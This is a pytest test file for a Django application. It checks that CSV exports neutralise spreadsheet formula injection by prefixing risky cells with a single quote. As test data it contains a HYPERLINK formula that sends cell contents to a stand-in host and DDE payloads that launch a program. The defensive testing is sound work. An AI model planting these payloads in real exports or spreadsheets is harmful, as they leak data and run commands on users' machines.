"""CSV formula injection (issue 14, finding 9): every CSV export writes text a spreadsheet would run as a
formula with a leading single quote (OWASP), through one writer (core/csv_export.py)."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from audit.actors import Actor
from fleet.services import site_create
from tests.factories import DeviceFactory, make_user

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://x.example/?"&A2,"up")'  # within agent_version's 40 characters


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1"])
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(text):
    from core.csv_export import safe_cell

    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["lyon-gw-01", "1.2.3", "", "a=b", 42, -3, 1.5, None])
def test_other_cells_are_written_as_they_are(value):
    from core.csv_export import safe_cell

    assert safe_cell(value) == value


def _rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


def test_device_export_neutralises_device_controlled_text(client: Client):
    DeviceFactory(uid="evil-01", agent_version=PAYLOAD, name="@cmd")
    client.force_login(make_user("csv-viewer", "viewer"))
    rows = _rows(client.get("/devices/export.csv"))
    header, row = rows[0], next(r for r in rows[1:] if r[0] == "evil-01")
    assert row[header.index("agent_version")] == "'" + PAYLOAD
    assert row[header.index("name")] == "'@cmd"
    assert row[header.index("memory_mb")].lstrip("-").isdigit()  # numbers untouched


def test_audit_csv_neutralises_text_cells(viewer_client):
    site_create(actor=Actor.system("tests"), name="=cmd|' /C calc'!A0", region="-2+3", latitude=0.0, longitude=0.0)
    response = viewer_client.get("/api/v1/audit/?format=csv&action=site.create")
    assert response.status_code == 200
    rows = _rows(response)
    header, row = rows[0], rows[1]
    assert row[header.index("object_repr")] == "'=cmd|' /C calc'!A0"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)
